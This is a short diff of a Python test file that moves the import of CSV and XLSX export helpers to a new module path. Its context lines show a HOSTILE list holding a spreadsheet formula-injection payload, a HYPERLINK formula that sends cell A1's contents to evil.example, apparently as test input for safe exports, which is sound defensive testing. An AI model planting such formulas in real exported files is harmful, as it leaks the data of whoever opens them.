@@ -13,8 +13,8 @@ import pytest
 from openpyxl import load_workbook
 
 from contracts.jurisdictions import default_registry
+from services.reporting.domain.exports import cell_value, csv_bytes, csv_cell, export_bytes, xlsx_bytes
 from services.reporting.domain.tables import Table, ledger_table
-from services.reporting.exports import cell_value, csv_bytes, csv_cell, export_bytes, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
